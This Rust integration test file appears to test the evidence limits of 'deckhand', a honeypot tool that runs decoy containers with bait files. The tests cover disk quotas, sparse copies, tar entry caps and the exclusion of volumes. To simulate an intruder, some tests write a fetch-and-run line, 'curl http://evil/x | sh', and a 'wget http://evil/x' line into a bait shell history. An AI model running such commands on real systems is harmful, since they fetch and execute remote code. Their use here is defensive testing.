//! Evidence is bounded (SPEC §8, issue 20 findings 4, 9 and 14): an
//! intruder who is root in a decky cannot fill the operator's disk through
//! the evidence deckhand keeps, nor make a destroy crawl, nor make deckhand
//! report its own volumes as a breach.

mod common;

use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::{docker, Fleet};

/// Decky a with one bait file in its ssh service (a sleeper).
const BAIT: &str = concat!(
    fleet_table!(),
    ssh_service!(),
    r#"
[deckies.{fleet}-a]
services = ["ssh"]

[deckies.{fleet}-a.files."/home/admin/.bash_history"]
content = "ls\n"
"#
);

fn evidence_dir(fleet: &Fleet) -> PathBuf {
    fleet.dir.path().join(".deckhand/evidence")
}

/// Every regular file under `dir` (no link followed).
fn files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let kind = e.file_type().unwrap();
        if kind.is_dir() {
            out.extend(files(&e.path()));
        } else if kind.is_file() {
            out.push(e.path());
        }
    }
    out.sort();
    out
}

/// Copies kept (sidecars aside) whose path contains `part`.
fn copies(fleet: &Fleet, part: &str) -> Vec<PathBuf> {
    let all = files(&evidence_dir(fleet)).into_iter();
    all.filter(|p| p.extension().is_none_or(|x| x != "json"))
        .filter(|p| p.to_string_lossy().contains(part))
        .collect()
}

/// Allocated bytes of everything under `dir`, as `du` counts them.
fn allocated(dir: &Path) -> u64 {
    let own = std::fs::symlink_metadata(dir).map_or(0, |m| m.blocks() * 512);
    let below = std::fs::read_dir(dir).into_iter().flatten().flatten();
    own + below
        .map(|e| match e.file_type().unwrap().is_dir() {
            true => allocated(&e.path()),
            false => e.metadata().map_or(0, |m| m.blocks() * 512),
        })
        .sum::<u64>()
}

fn sidecar(copy: &Path) -> serde_json::Value {
    let json = std::fs::read_to_string(format!("{}.json", copy.display())).unwrap();
    serde_json::from_str(&json).unwrap()
}

fn sh(container: &str, script: &str) {
    docker(&["exec", container, "sh", "-c", script]);
}

/// Finding 4: a bait truncated to 250 MB again and again, restored each
/// time, costs the evidence disk next to nothing and is kept once.
#[test]
fn a_bait_truncated_to_250_mb_again_and_again_is_kept_once_and_sparse() {
    let fleet = Fleet::new("evsparse");
    fleet.write(BAIT);
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    for _ in 0..5 {
        sh(&ssh, "truncate -s 250M /home/admin/.bash_history");
        fleet.apply();
        assert_eq!(
            common::cat(&ssh, "/home/admin/.bash_history"),
            b"ls\n",
            "restored"
        );
    }
    let used = allocated(&evidence_dir(&fleet));
    assert!(used < 10 << 20, "the evidence directory uses {used} bytes");
    let kept = copies(&fleet, ".bash_history");
    assert_eq!(kept.len(), 1, "the same content is kept once: {kept:?}");
    assert_eq!(
        std::fs::metadata(&kept[0]).unwrap().len(),
        250 << 20,
        "the whole content"
    );
    let meta = sidecar(&kept[0]);
    assert_eq!(meta["seen"].as_array().map(Vec::len), Some(5), "{meta}");
    assert_eq!(meta["seen_count"], 5, "{meta}");
}

/// Two deckies, one bait each.
const TWO: &str = concat!(
    fleet_table!("evidence_quota_mb = 1"),
    r#"
[deckies.{fleet}-a]
services = []

[deckies.{fleet}-a.files."/srv/bait"]
content = "a\n"

[deckies.{fleet}-b]
services = []

[deckies.{fleet}-b.files."/srv/bait"]
content = "b\n"
"#
);

/// Overwrites the bait of `container` with 300 KB nobody can guess, then
/// applies (which keeps a copy first); returns the apply's NDJSON events.
fn plant_and_apply(fleet: &Fleet, container: &str) -> Vec<serde_json::Value> {
    sh(
        container,
        "dd if=/dev/urandom of=/srv/bait bs=1000 count=300 2>/dev/null",
    );
    let run = fleet.deckhand(&["apply", "--auto-approve", "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    run.stdout
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// The quota: the oldest capture of the decky holding the most goes first,
/// and the `evidence` event says so.
#[test]
fn over_the_quota_the_oldest_capture_of_the_biggest_decky_is_dropped_and_said() {
    let fleet = Fleet::new("evquota");
    fleet.write(TWO);
    fleet.apply();
    let (a, b) = (fleet.n("a"), fleet.n("b"));
    plant_and_apply(&fleet, &b);
    plant_and_apply(&fleet, &a);
    let first_of_a = copies(&fleet, &format!("/{a}/"));
    assert_eq!(first_of_a.len(), 1);
    plant_and_apply(&fleet, &a);
    let events = plant_and_apply(&fleet, &a);
    let used = allocated(&evidence_dir(&fleet));
    assert!(used <= 1 << 20, "over the quota: {used} bytes");
    assert!(
        !first_of_a[0].exists(),
        "the oldest of the biggest decky went"
    );
    let all: Vec<(PathBuf, u64)> = files(&evidence_dir(&fleet))
        .into_iter()
        .map(|p| (p.clone(), std::fs::metadata(&p).unwrap().blocks() * 512))
        .collect();
    assert_eq!(
        copies(&fleet, &format!("/{b}/")).len(),
        1,
        "the smaller decky keeps its copy: {all:?} {events:?}"
    );
    assert_eq!(copies(&fleet, &format!("/{a}/")).len(), 2);
    let said: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["type"] == "evidence")
        .flat_map(|e| e["dropped"].as_array().into_iter().flatten())
        .collect();
    assert_eq!(
        said,
        [&serde_json::json!(first_of_a[0].display().to_string())],
        "{events:?}"
    );
}

/// The engine's `archive-path` events for `container` from `since` to now.
fn archive_calls(container: &str, since: u64) -> usize {
    let until = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 1;
    let out = docker(&[
        "events",
        "--since",
        &since.to_string(),
        "--until",
        &until.to_string(),
        "--filter",
        "event=archive-path",
        "--format",
        "{{.Actor.Attributes.name}}",
    ]);
    out.lines().filter(|l| *l == container).count()
}

/// Plants 1,000 files in a decky, destroys it (with `env`), and returns
/// the engine's archive calls for it; the destroy is bounded, and the
/// layer's tar and sidecar hold every planted file.
fn destroy_a_thousand(hint: &str, env: &[(&str, &str)]) -> usize {
    let fleet = Fleet::new(hint);
    fleet.write(concat!(
        fleet_table!(),
        "\n[deckies.{fleet}-a]\nservices = []\n"
    ));
    fleet.apply();
    let a = fleet.n("a");
    sh(&a, "mkdir -p /srv/planted && cd /srv/planted && i=0; while [ $i -lt 1000 ]; do echo \"loot $i\" > f$i; i=$((i+1)); done");
    let since = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let started = Instant::now();
    let run = common::deckhand_in(
        fleet.dir.path(),
        &["destroy", "--auto-approve", "--no-color"],
        env,
    );
    let took = started.elapsed();
    assert_eq!(run.code, 0, "{run:?}");
    assert!(took < Duration::from_secs(60), "the destroy took {took:?}");
    let tars = copies(&fleet, "/layer/");
    assert_eq!(tars.len(), 1, "{run:?}");
    let mut archive = tar::Archive::new(std::fs::File::open(&tars[0]).unwrap());
    let planted: Vec<(String, Vec<u8>)> = archive
        .entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut bytes).unwrap();
            (e.path().unwrap().display().to_string(), bytes)
        })
        .filter(|(p, _)| p.starts_with("srv/planted/f"))
        .collect();
    assert_eq!(planted.len(), 1000);
    assert!(planted.contains(&("srv/planted/f7".into(), b"loot 7\n".to_vec())));
    let listed = sidecar(&tars[0])["changes"].as_array().unwrap().len();
    assert_eq!(listed, 1000, "each planted file listed");
    archive_calls(&a, since)
}

/// Finding 9: a layer of 1,000 planted files is read at once: from the
/// host through the container's root (no archive call), or in one archive
/// call through the engine.
#[test]
fn a_thousand_planted_files_are_kept_in_one_read() {
    assert_eq!(destroy_a_thousand("evmany", &[]), 0, "read from the host");
    let engine = [("DECKHAND_READ", "engine")];
    assert_eq!(
        destroy_a_thousand("evmanye", &engine),
        1,
        "one archive call"
    );
}

/// The quickstart's ssh service: a bind-mounted quarantine volume, and a
/// bait deckhand wrote.
const VOLUME: &str = concat!(
    fleet_table!(),
    r#"
[services.ssh]
image = "{image}"
command = ["sleep", "infinity"]
volumes = ["{dir}/artifacts/{decky}:/var/lib/systemd/coredump:rw"]

[deckies.{fleet}-a]
services = ["ssh"]

[deckies.{fleet}-a.files."/home/admin/.bash_history"]
content = "ls\n"

[deckies.{fleet}-b]
services = ["ssh"]

[deckies.{fleet}-b.files."/home/admin/.bash_history"]
content = "ls\n"
"#
);

/// Finding 14: a volume's mount point and deckhand's own files as it wrote
/// them are no evidence; its file as the intruder left it is.
#[test]
fn a_volumes_mount_point_and_deckhands_own_files_are_no_evidence() {
    let fleet = Fleet::new("evvol");
    let dir = fleet.dir.path().display().to_string();
    fleet.write(&VOLUME.replace("{dir}", &dir));
    fleet.apply();
    let b_ssh = fleet.n("b-ssh");
    sh(&b_ssh, "echo 'curl http://evil/x | sh' >> /home/admin/.bash_history; echo core > /var/lib/systemd/coredump/core.1; mkfifo /tmp/pipe");
    let run = fleet.deckhand(&["destroy", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 0, "{run:?}");
    let a_ssh = fleet.n("a-ssh");
    assert_eq!(
        copies(&fleet, &format!("/{a_ssh}/")),
        Vec::<PathBuf>::new(),
        "{run:?}"
    );
    let tars = copies(&fleet, &format!("/{b_ssh}/layer/"));
    assert_eq!(tars.len(), 1, "{run:?}");
    let listed = sidecar(&tars[0])["changes"].to_string();
    assert!(
        listed.contains(".bash_history"),
        "changed by the intruder: {listed}"
    );
    assert!(!listed.contains("coredump"), "a mount point: {listed}");
    assert!(listed.contains("/tmp/pipe"), "a FIFO is listed: {listed}");
    let left_out = sidecar(&tars[0])["left_out"].to_string();
    assert!(
        left_out.contains("/tmp/pipe: a special file: never opened"),
        "{left_out}"
    );
    let mut archive = tar::Archive::new(std::fs::File::open(&tars[0]).unwrap());
    let history = archive
        .entries()
        .unwrap()
        .map(|e| e.unwrap())
        .find(|e| e.path().unwrap().ends_with("home/admin/.bash_history"));
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut history.expect("the changed bait"), &mut bytes).unwrap();
    assert_eq!(bytes, b"ls\ncurl http://evil/x | sh\n");
}

/// A capture never takes the filesystem below its free floor (made 100 %
/// here, through the test-only DECKHAND_EVIDENCE_FLOOR_PERCENT): what does
/// not fit is listed in the sidecar, and the restore still happens.
#[test]
fn a_capture_that_does_not_fit_is_listed_and_the_restore_still_happens() {
    let fleet = Fleet::new("evfloor");
    fleet.write(BAIT);
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    sh(
        &ssh,
        "echo 'wget http://evil/x' >> /home/admin/.bash_history",
    );
    let env = [("DECKHAND_EVIDENCE_FLOOR_PERCENT", "100")];
    let run = common::deckhand_in(
        fleet.dir.path(),
        &["apply", "--auto-approve", "--no-color"],
        &env,
    );
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(
        common::cat(&ssh, "/home/admin/.bash_history"),
        b"ls\n",
        "restored"
    );
    let kept = copies(&fleet, ".bash_history");
    assert_eq!(kept.len(), 1, "{run:?}");
    let meta = sidecar(&kept[0]);
    let left_out = meta["left_out"].to_string();
    assert!(left_out.contains("below 100 % free"), "{meta}");
    assert_eq!(
        std::fs::metadata(&kept[0]).unwrap().len(),
        0,
        "nothing was written"
    );
}

/// Two deckies, one bait each, a quota of 5 MiB (b alone without a).
fn two_under_5_mib(with_a: bool) -> String {
    let a = "\n[deckies.{fleet}-a]\nservices = []\n\n[deckies.{fleet}-a.files.\"/srv/bait\"]\ncontent = \"a\\n\"\n";
    let b = "\n[deckies.{fleet}-b]\nservices = []\n\n[deckies.{fleet}-b.files.\"/srv/bait\"]\ncontent = \"b\\n\"\n";
    let fleet = fleet_table!("evidence_quota_mb = 5");
    format!("{fleet}{}{b}", if with_a { a } else { "" })
}

/// Break 1: a decky capturing more than the quota holds (a 6 MiB file, in a
/// 5 MiB quota) cannot wipe the copy kept for another decky, and its small
/// files after the one refused are still kept.
#[test]
fn a_decky_capturing_a_lot_does_not_wipe_another_deckys_evidence() {
    let fleet = Fleet::new("evwipe");
    fleet.write(&two_under_5_mib(true));
    fleet.apply();
    let (a, b) = (fleet.n("a"), fleet.n("b"));
    sh(
        &b,
        "dd if=/dev/urandom of=/srv/bait bs=1024 count=3072 2>/dev/null",
    );
    fleet.apply();
    let kept_b = copies(&fleet, &format!("/{b}/"));
    assert_eq!(kept_b.len(), 1, "b's bait kept");
    let bytes_b = std::fs::read(&kept_b[0]).unwrap();
    assert_eq!(bytes_b.len(), 3 << 20);
    sh(
        &a,
        "mkdir -p /srv/0 && dd if=/dev/urandom of=/srv/0/big bs=1024 count=6144 2>/dev/null; echo 'stolen creds' > /srv/zz_evidence",
    );
    fleet.write(&two_under_5_mib(false));
    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(kept_b[0].exists(), "b's copy is still there: {run:?}");
    assert_eq!(std::fs::read(&kept_b[0]).unwrap(), bytes_b, "and intact");
    let tars = copies(&fleet, &format!("/{a}/layer/"));
    assert_eq!(tars.len(), 1, "{run:?}");
    let mut archive = tar::Archive::new(std::fs::File::open(&tars[0]).unwrap());
    let small: Vec<Vec<u8>> = archive
        .entries()
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.path().unwrap().ends_with("srv/zz_evidence"))
        .map(|mut e| {
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut bytes).unwrap();
            bytes
        })
        .collect();
    assert_eq!(small, [b"stolen creds\n".to_vec()], "{run:?}");
    let used = allocated(&evidence_dir(&fleet));
    assert!(used <= 5 << 20, "over the quota: {used} bytes");
}

/// Break 1 and 2: a layer of 20,000 planted files gives a tar of at most
/// 10,000 entries; the rest is listed as not copied.
#[test]
fn a_layer_tar_holds_at_most_ten_thousand_entries_the_rest_counted() {
    let fleet = Fleet::new("evmany");
    fleet.write(concat!(
        fleet_table!(),
        "\n[deckies.{fleet}-a]\nservices = []\n"
    ));
    fleet.apply();
    let a = fleet.n("a");
    sh(
        &a,
        "mkdir -p /srv/p && cd /srv/p && i=0; while [ $i -lt 20000 ]; do : > f$i; i=$((i+1)); done",
    );
    let run = fleet.deckhand(&["destroy", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 0, "{run:?}");
    let tars = copies(&fleet, "/layer/");
    assert_eq!(tars.len(), 1, "{run:?}");
    let mut archive = tar::Archive::new(std::fs::File::open(&tars[0]).unwrap());
    let entries = archive.entries().unwrap().count();
    assert!(entries <= 10_000, "{entries} entries in the tar");
    let meta = sidecar(&tars[0]);
    let listed = meta["left_out"].as_array().map_or(0, Vec::len);
    let counted = meta["left_out_not_listed"].as_u64().unwrap_or(0) as usize;
    assert!(listed + counted >= 1, "{meta}");
    let line = meta["left_out"][0].as_str().unwrap_or_default();
    let said = line.contains("over 10000 entries") || line.contains("ran out");
    assert!(said, "{line}");
    assert!(run.stdout.contains("parts left out"), "{run:?}");
}
